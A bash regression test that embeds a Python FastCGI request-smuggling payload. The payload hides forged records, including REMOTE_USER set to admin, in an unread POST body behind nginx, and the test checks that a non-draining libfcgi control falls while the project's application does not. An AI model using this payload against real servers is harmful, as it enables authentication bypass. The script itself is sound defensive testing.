#!/bin/bash
# A body that nobody reads is not the next request. On a kept connection libfcgi
# takes what a handler left unread for new records: any HTTP client can then
# forge a request behind nginx, REMOTE_USER included. Control: a plain libfcgi
# handler that does not drain, which must fall.
# shellcheck source=../lib/lib.sh
. "$(dirname "$0")/../lib/lib.sh"

cat >"$T/attack.py" <<'PY'
import http.client
import sys
import fcgi

port, shifts = int(sys.argv[1]), 16
# 16-byte records of a request that nobody began, which libfcgi passes over;
# then a request of our own.
sled = fcgi.record(fcgi.STDIN, b"\0" * 8, rid=2)
forged = fcgi.request("/forged", extra={"REMOTE_USER": "admin"})
for shift in range(shifts):
    body = b"\0" * shift + sled * 1024
    body = body[:16384 - len(forged) // 16 * 16 - 16 - (16 - shift)]
    body = body[:shift + (len(body) - shift) // 16 * 16] + forged
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
    try:
        conn.request("POST", "/innocent", body)
        conn.getresponse().read()
    except (OSError, http.client.HTTPException):
        pass
    conn.close()
PY

# The file of requests that the handler was given.
export TEST_REQUESTS

TEST_REQUESTS=$T/plain.requests
start_plain "$T/plain.sock" --threads 8 --no-drain
start_nginx keep "$T/plain.sock"
python3 "$T/attack.py" "$port" || fail 'the attack itself failed'
say "plain: $(lines 'POST /innocent' "$TEST_REQUESTS") sent, $(
	lines '/forged admin' "$TEST_REQUESTS") forged"
[ "$(lines '/forged admin' "$TEST_REQUESTS")" -gt 0 ] ||
	fail 'the control did not fall: the attack is blunt'
stop "$nginx"
stop "$plain" KILL

TEST_REQUESTS=$T/app.requests
start_app "$T/app.sock" --no-drain
start_nginx keep "$T/app.sock"
python3 "$T/attack.py" "$port" || fail 'the attack itself failed'
expect 'innocent requests' "$(lines 'POST /innocent' "$TEST_REQUESTS")" 16
expect 'forged requests' "$(lines '/forged' "$TEST_REQUESTS")" 0
alive "$app" || fail 'the application died'

# The same on the socket: an unread body, and a request behind it in one write,
# which a web server never sends.
python3 - "$T/app.sock" <<'PY' || fail 'on the socket'
import sys
import fcgi
conn = fcgi.Conn(sys.argv[1])
forged = fcgi.request("/forged", extra={"REMOTE_USER": "admin"})
conn.send(fcgi.request("/innocent", "POST", forged * 40))
reply = conn.reply()
assert reply is not None and reply.status == 202, "no reply to the first"
conn.sock.settimeout(1)
try:
    assert conn.record() is None, "an answer to what nobody asked"
except TimeoutError:
    pass
PY
expect 'forged on the socket' "$(lines '/forged' "$TEST_REQUESTS")" 0
